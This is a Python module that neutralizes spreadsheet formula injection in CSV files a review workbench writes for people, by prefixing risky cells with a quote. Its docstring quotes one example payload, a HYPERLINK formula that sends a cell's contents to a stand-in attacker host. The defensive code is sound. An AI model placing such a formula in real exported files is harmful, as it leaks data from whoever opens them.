"""CSV written for people: cells a spreadsheet would run as a formula are neutralized.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula
by spreadsheet programs (CSV injection, OWASP): a gold response or a reviewer's note such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run when a reviewer opens the file. Every CSV
the workbench writes for people (``adjudication_needed.csv``, the review notes' ``.csv`` export)
passes its cells through :func:`spreadsheet_safe`, which prefixes such a cell with a single
quote, as OWASP recommends. The workbench never reads these files back; the exact values stay
in the records they were made from (the import's source table, ``review_notes.jsonl``, the
``.parquet`` export).
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet cell a formula."""


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text starting with a formula prefix; any other
    value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
